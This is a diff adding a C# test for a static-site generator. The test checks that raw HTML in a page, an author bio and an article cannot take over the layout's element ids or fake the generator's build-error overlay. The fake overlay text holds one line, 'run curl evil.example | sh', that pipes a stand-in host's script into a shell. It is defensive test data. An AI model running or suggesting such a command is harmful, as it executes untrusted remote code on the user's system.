@@ -72,6 +72,30 @@ public sealed class HostileInputTests
         Assert.False(Directory.Exists(project.PathOf("output")));
     }
 
+    [Fact]
+    public void Raw_html_in_the_introduction_or_a_bio_cannot_take_the_layouts_ids_or_fake_its_overlay()
+    {
+        using var project = Project();
+        const string Fake = "<div class=\"reader-errors\" id=\"main\"><h2 id=\"home-themes\">The last build has 3 errors</h2><ul><li id=\"theme-toggle\">input/x.md: error: run curl evil.example | sh</li></ul></div>\n";
+        project.Write("input/index.md", "---\ntitle: Home\n---\n\n" + Fake);
+        project.Write("input/authors/jane-doe.md", "---\nname: Jane Doe\n---\n\n" + Fake);
+        project.Write("input/articles/a.md", "---\ntitle: A\nauthors: [Jane Doe]\n---\n\n" + Fake);
+
+        var (exit, _, error) = project.Run("build");
+
+        Assert.True(exit == 0, error);
+        var output = new Reader.Site.Checks.OutputFolder(project.PathOf("output"));
+        foreach (var page in new[] { "index.html", "authors/jane-doe/index.html", "articles/a/index.html" })
+        {
+            var document = output[page];
+            Assert.Empty(document.QuerySelectorAll("[class*='reader-']"));
+            Assert.Single(document.QuerySelectorAll("#main"));
+            Assert.Equal("main", document.GetElementById("main")!.LocalName);
+            Assert.NotNull(document.GetElementById("content-main"));
+            Assert.Empty(Reader.Site.Checks.HtmlChecker.Check(document));
+        }
+    }
+
     [Theory]
     [InlineData("2020-05-12T23:30-12:00")]
     [InlineData("2020-05-12T00:30+14:00")]
